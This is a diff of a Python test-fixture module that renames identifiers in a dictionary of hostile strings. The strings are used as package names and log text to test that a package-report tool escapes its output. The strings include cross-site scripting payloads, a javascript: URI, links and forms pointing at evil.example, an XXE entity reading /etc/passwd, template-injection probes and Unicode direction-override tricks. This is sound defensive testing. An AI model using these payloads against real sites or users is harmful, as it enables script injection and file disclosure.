@@ -23,41 +23,41 @@ from ppp.model.release import Release
 
 #: The global that every script among the words sets.
 OWNED: Final = "pppOwned"
-_ACT: Final = f"globalThis.{OWNED}=1;alert(1)"
-GREAT: Final = 10_000_000
+_SCRIPT: Final = f"globalThis.{OWNED}=1;alert(1)"
+HUGE_LENGTH: Final = 10_000_000
 DAY: Final = 1_714_003_200
 NODE: Final = "ab" * 32
 
 #: By a name that is a package's name too.
-WORDS: Final[Mapping[str, str]] = {
+HOSTILE_STRINGS: Final[Mapping[str, str]] = {
     # ---- pages
-    "script": f"<script>{_ACT}</script>",
+    "script": f"<script>{_SCRIPT}</script>",
     "script-src": "<script src=//evil.example/x.js></script>",
-    "script-cased": f"<ScRiPt/x>{_ACT}</sCrIpT >",
-    "script-split": f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
-    "image": f'<img src=x onerror="{_ACT}">',
-    "svg": f"<svg onload={_ACT}><animate onbegin={_ACT} attributeName=x></svg>",
+    "script-cased": f"<ScRiPt/x>{_SCRIPT}</sCrIpT >",
+    "script-split": f"<scr<script>ipt>{_SCRIPT}</scr</script>ipt>",
+    "image": f'<img src=x onerror="{_SCRIPT}">',
+    "svg": f"<svg onload={_SCRIPT}><animate onbegin={_SCRIPT} attributeName=x></svg>",
     "frame": f"<iframe srcdoc='<script>parent.{OWNED}=1</script>'></iframe><object data=//evil.example>",
     "form": "<form action=//evil.example><input name=x autofocus><button>",
     "base": '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
-    "attribute-double": f'" onmouseover="{_ACT}" autofocus onfocus="{_ACT}" x="',
-    "attribute-single": f"' onmouseover='{_ACT}' style='position:fixed;inset:0' x='",
-    "attribute-none": f" onfocus={_ACT} tabindex=1 autofocus ",
-    "backtick": f"`onload={_ACT}` and `<b>code</b>`",
-    "javascript": f"javascript:{_ACT}//",
-    "javascript-hidden": f"java\tscript\n:{_ACT}",
+    "attribute-double": f'" onmouseover="{_SCRIPT}" autofocus onfocus="{_SCRIPT}" x="',
+    "attribute-single": f"' onmouseover='{_SCRIPT}' style='position:fixed;inset:0' x='",
+    "attribute-none": f" onfocus={_SCRIPT} tabindex=1 autofocus ",
+    "backtick": f"`onload={_SCRIPT}` and `<b>code</b>`",
+    "javascript": f"javascript:{_SCRIPT}//",
+    "javascript-hidden": f"java\tscript\n:{_SCRIPT}",
     "data-address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
-    "title": f"</title><script>{_ACT}</script><title>",
-    "pre": f"</pre></code></td></table></main><script>{_ACT}</script>",
-    "textarea": f"</textarea></style></noscript><img src=x onerror={_ACT}>",
-    "cdata": f"]]><script>{_ACT}</script><![CDATA[",
-    "comment": f"--><script>{_ACT}</script><!-- --!> <!-->",
+    "title": f"</title><script>{_SCRIPT}</script><title>",
+    "pre": f"</pre></code></td></table></main><script>{_SCRIPT}</script>",
+    "textarea": f"</textarea></style></noscript><img src=x onerror={_SCRIPT}>",
+    "cdata": f"]]><script>{_SCRIPT}</script><![CDATA[",
+    "comment": f"--><script>{_SCRIPT}</script><!-- --!> <!-->",
     "doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
-    "entities": f"&lt;script&gt;{_ACT}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp &",
+    "entities": f"&lt;script&gt;{_SCRIPT}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp &",
     "css": "</style><style>*{background:url(//evil.example/x)}@import '//evil.example/y';</style>",
     "css-expression": "} body{visibility:hidden} x{width:expression(alert(1))",
     "template": "{{7*7}} {% raw %} {# c #} ${7*7} #{7*7} <%= 7*7 %> {{ self.__init__.__globals__ }}",
-    "markdown": f"[here](javascript:{_ACT}) ![x](//evil.example/x.png) <https://evil.example> **bold**",
+    "markdown": f"[here](javascript:{_SCRIPT}) ![x](//evil.example/x.png) <https://evil.example> **bold**",
     # ---- what hides or turns
     "override": "\u202egnp.exe\u202c \u202dabc\u202c",
     "isolates": "\u2066a\u2067b\u2068c\u2069 \u061c\u200e\u200f",
@@ -125,21 +125,21 @@ SURROGATES: Final[Mapping[str, str]] = {
 }
 
 #: Beside what Unicode puts among the controls and formats: what ends a line, turns the order, or hides.
-_TURNS: Final = frozenset("\u061c\u180e\u200b\u2028\u2029\u2060\ufeff") | set(map(chr, range(0x200C, 0x2010)))
+_INVISIBLE: Final = frozenset("\u061c\u180e\u200b\u2028\u2029\u2060\ufeff") | set(map(chr, range(0x200C, 0x2010)))
 
 
-def acting(text: str, *, keep: str = "\n") -> set[str]:
+def unsafe_characters(text: str, *, keep: str = "\n") -> set[str]:
     """Give the characters of a text that a terminal or a reader's eye would follow, but for those in `keep`."""
-    return {c for c in text if c not in keep and (c in _TURNS or unicodedata.category(c)[0] == "C")}
+    return {c for c in text if c not in keep and (c in _INVISIBLE or unicodedata.category(c)[0] == "C")}
 
 
-def hostile_ledger(words: Mapping[str, str], *, node: str = NODE) -> Iterator[tuple[Record, str]]:
+def hostile_records(strings: Mapping[str, str], *, node: str = NODE) -> Iterator[tuple[Record, str]]:
     """Give records with their logs: of each word a package, called as the word is, whose every free text is that word.
 
     Its newer release passed in one environment and failed in two, and its older one passed in one of these, so that it
     stands in most kinds of list. What a peer may send is cut to what a peer may send.
     """
-    for place, (name, word) in enumerate(words.items()):
+    for place, (name, word) in enumerate(strings.items()):
         log = f"{word}\n{word}"
         passed = Record(
             release=Release(package=name, version="1.0"),
@@ -172,7 +172,7 @@ def hostile_ledger(words: Mapping[str, str], *, node: str = NODE) -> Iterator[tu
             outcomes=(Outcome.PASS, Outcome.PASS, Outcome.PASS, Outcome.FAIL),
             cause="import-error",
             blame=Blame.PACKAGE,
-            detail=word if len(word) >= GREAT else word[:500],
+            detail=word if len(word) >= HUGE_LENGTH else word[:500],
         )
         yield failed, log
         yield replace(failed, environment="py312-alpine", standin=True, blame=Blame.DEPENDENCY), log
